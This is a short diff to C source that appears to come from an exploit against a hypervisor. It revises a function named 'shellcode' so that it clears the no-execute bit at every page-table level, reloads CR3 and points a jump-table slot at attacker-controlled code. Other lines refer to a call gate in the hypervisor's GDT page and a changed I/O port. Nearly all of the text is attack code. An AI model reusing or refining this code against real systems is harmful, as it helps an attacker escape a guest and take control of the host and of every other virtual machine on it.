@@ -14,7 +14,7 @@
 #define BREAKPOINT 3
 #define CALL_GATE_SELECTOR 0xe7f0 /* the last descriptor of the hypervisor's page of the GDT */
 #define GDT_PAGE 0xe000
-#define PORT 0x61
+#define PORT 0x80
 #define EMULATOR_STUB 64 /* where the emulator's half of a CPU's stub begins */
 
 static void table_directmap(void) { poke(directmap(jump_slot()), won()); cause(CAUSE_OPS, 0); }
@@ -89,10 +89,15 @@ static void code_entry(void)
 /* Code of the attacker's in a page of data; the slot of the table leads there. */
 static void shellcode(word page)
 {
-    word entry = entry_of(page);
+    word last = entry_of(page), entry;
+    int shift = 39;
 
     write_jump(page, won());
-    poke(entry, peek(entry) & ~NO_EXECUTE);
+    do {
+        entry = entry_at(fact(FACT_CR3, 0), page, shift);
+        poke(entry, peek(entry) & ~NO_EXECUTE);
+        shift -= 9;
+    } while ( entry != last );
     cause(CAUSE_RELOAD_CR3, 0);
     poke(directmap(jump_slot()), page);
     cause(CAUSE_OPS, 0);
